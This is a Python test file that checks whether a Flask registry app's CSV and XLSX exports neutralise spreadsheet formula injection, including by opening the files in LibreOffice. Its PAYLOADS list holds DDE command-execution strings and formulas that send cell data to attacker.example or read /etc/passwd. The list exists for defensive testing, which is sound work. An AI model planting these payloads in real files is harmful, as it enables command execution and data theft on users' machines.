"""Texts that spreadsheets take for formulas stay texts in every file that the program hands out.

The quick tests look into the files; the long one opens them in LibreOffice (``make formulas``).
"""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import xlsxwriter
from flask import Flask
from sqlalchemy import select

from models import Branch, Company
from policy import system_session
from services.tables.export import FORMULA_MARKS
from tests.conftest import as_new, signed_in
from tests.databases import Office
from tests.sheets_made import rows_of, workbook
from tests.test_imports import send_sheet

PAYLOADS = [
    "=1+1",
    "=2*3*7",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "-cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "-1*SUM(1,2)",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    '=HYPERLINK("http://attacker.example/?x="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    '=IMPORTFEED("http://attacker.example/feed")',
    '=IMPORTHTML("http://attacker.example","table",1)',
    '=IMPORTRANGE("attacker","A1:B2")',
    '=IMAGE("http://attacker.example/a.png")',
    '=WEBSERVICE("http://attacker.example/?x="&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A1")',
    "{=1+1}",
    "=1+1\";=1+1;\"",
    "a\",=1+1,\"b",
    "a\n=1+1",
    "a\r\n=1+1,=1+1",
    "=IFERROR(1/0,2)",
    "http://attacker.example/",
    "mailto:a@attacker.example",
    "file:///etc/passwd",
    "external:a.xlsx",
    "internal:Sheet1!A1",
]  # fmt: skip
"""What is known to have been tried on exports, with links that a spreadsheet might make of a text."""
HEADS = ["企业简称", "职工人数", "地址", "联系人", "备注"]


@pytest.fixture(scope="module")
def files(on_sqlite: Office) -> Iterator[dict[str, bytes]]:
    """Every kind of file, made of lists and sheets that are full of such texts."""
    app = as_new(on_sqlite).app
    _fill(app)
    client = signed_in(app, "city_admin")
    wrong = workbook(HEADS, *([text, text, text, text, text] for text in PAYLOADS))
    preview = send_sheet(client, "company", wrong)
    addresses = {
        "列表.csv": "/company/export/csv/",
        "列表.xlsx": "/company/export/xlsx/",
        "党组织.csv": "/branch/export/csv/",
        "党组织.xlsx": "/branch/export/xlsx/",
        "模板.xlsx": "/company/import/template/",
        "标红.xlsx": f"{preview}wrong/",
    }
    yield {name: client.get(address).data for name, address in addresses.items()}
    as_new(on_sqlite)


def _fill(app: Flask) -> None:
    """Companies, and the branches that stand in the template's drop-downs and in its example."""
    with app.app_context(), system_session("demo") as session:
        first = session.scalars(select(Branch).order_by(Branch.id)).first()
        first.name = PAYLOADS[0]
        for number, text in enumerate(PAYLOADS):
            session.add(
                Company(branch=first, short_name=f"{text}·{number}", address=text, contact_name=text, note=text)
            )
        for text in PAYLOADS[1:26]:
            session.add(Branch(name=text, parent=first, kind=first.kind))
        session.commit()


def workbook_parts(book: bytes) -> dict[str, str]:
    """The parts of a workbook by name."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        return {name: parts.read(name).decode() for name in parts.namelist()}


def test_there_are_enough_of_them_and_each_is_in_the_files(files: dict[str, bytes]) -> None:
    assert len(PAYLOADS) >= 25
    for name in ("列表.xlsx", "标红.xlsx"):
        text = "".join(str(cell) for row in rows_of(files[name]) for cell in row)
        squeezed = re.sub(r"\s", "", text)
        missing = [one for one in PAYLOADS if re.sub(r"\s", "", one) not in squeezed]
        assert not missing, name


def test_a_workbook_holds_no_formula_link_or_outer_part(files: dict[str, bytes]) -> None:
    for name, book in files.items():
        if not name.endswith(".xlsx"):
            continue
        parts = workbook_parts(book)
        every = "".join(parts.values())
        assert not re.search(r"<(\w+:)?f[ >/]", every), name
        for sign in ("<hyperlink", "<ddeLink", "<oleLink", "<externalReference", 'TargetMode="External"'):
            assert sign not in every, (name, sign)
        assert not [part for part in parts if re.search(r"externalLink|vbaProject|connections|macrosheet", part)], name


def test_no_cell_of_a_csv_begins_as_a_formula_does(files: dict[str, bytes]) -> None:
    for name, file in files.items():
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))
            cells = [cell for row in rows for cell in row]
            assert any(cell.startswith("'=cmd|") for cell in cells), name
            assert not [cell for cell in cells if cell[:1] in FORMULA_MARKS or cell.strip()[:1] in FORMULA_MARKS], name


@pytest.mark.long
def test_nothing_is_carried_out_when_the_files_are_opened_in_libreoffice(
    files: dict[str, bytes], tmp_path: Path
) -> None:
    if shutil.which("soffice") is None:
        pytest.fail("LibreOffice Calc is missing: make formulas")
    files = files | {"control.csv": _bare_csv(), "control.xlsx": _bare_workbook()}
    opened = {name: _opened(tmp_path, f"file{number}", name, file) for number, (name, file) in enumerate(files.items())}
    found = {name: _active(text) for name, text in opened.items()}
    cells = {name: len(re.findall(r"<table:table-cell [^>]*office:value-type", text)) for name, text in opened.items()}
    # Written without care the same texts are formulas here: so the count tells something.
    assert found.pop("control.csv") > 10 and found.pop("control.xlsx") > 10
    assert all(cells[name] >= 25 for name in found)
    assert found == dict.fromkeys(found, 0)


def _opened(folder: Path, place: str, name: str, file: bytes) -> str:
    """A file as LibreOffice has it after opening: flat XML that tells of formulas and links."""
    given = folder / f"{place}{Path(name).suffix}"
    given.write_bytes(file)
    # Commas, quotation marks, UTF-8, from the first line; special numbers found, formulas carried out.
    asked = ["--infilter=CSV:44,34,76,1,,2052,false,true,false,false,false,0,true"] if name.endswith(".csv") else []
    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{folder}/profile", *asked,
         "--convert-to", "fods", "--outdir", str(folder), str(given)],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    return given.with_suffix(".fods").read_text(encoding="utf-8")


def _active(text: str) -> int:
    """The cells of an opened file that are formulas or links, and what it fetches from elsewhere."""
    body = text[text.index("<office:body") :]
    return len(
        re.findall(r'table:formula="|<text:a |<table:dde-link|<table:table-source|<table:cell-range-source', body)
    )


def _bare_csv() -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([one, "1"] for one in PAYLOADS)
    return file.getvalue().encode()


def _bare_workbook() -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        for number, text in enumerate(PAYLOADS):
            sheet.write(number, 0, text)
    return file.getvalue()
